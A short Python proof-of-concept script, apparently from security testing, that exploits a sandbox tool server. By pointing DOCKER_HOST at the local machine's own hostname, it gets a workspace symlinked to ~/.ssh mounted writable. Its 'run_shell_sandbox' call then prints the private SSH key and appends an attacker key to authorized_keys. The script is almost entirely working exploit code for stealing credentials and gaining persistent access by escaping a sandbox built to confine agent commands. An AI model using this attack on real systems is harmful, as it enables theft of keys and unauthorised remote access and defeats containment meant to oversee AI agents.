# A local docker engine reached by tcp://<this machine's hostname or own address> is taken for a remote one:
# the workspace (a link to $HOME/.ssh) is judged as written, mounted writable with no transactional layer.
import sys, json
sys.path.insert(0, "/work/notes/atk33")
import stdio
host = sys.argv[1]
s = stdio.Stdio("/tmp/atk33x/dpol-link.toml", {"DOCKER_HOST": host, "HOME": "/tmp/atk33x/fakehome"})
r = s.call("run_shell_sandbox", {"script": "ls -la /workspace; cat /workspace/id_ed25519; echo ssh-ed25519 AAAATTACKER >> /workspace/authorized_keys; echo rc=$?"})
print(json.dumps(stdio.sc(r))[:800])
s.p.stdin.close(); s.p.wait(timeout=30)
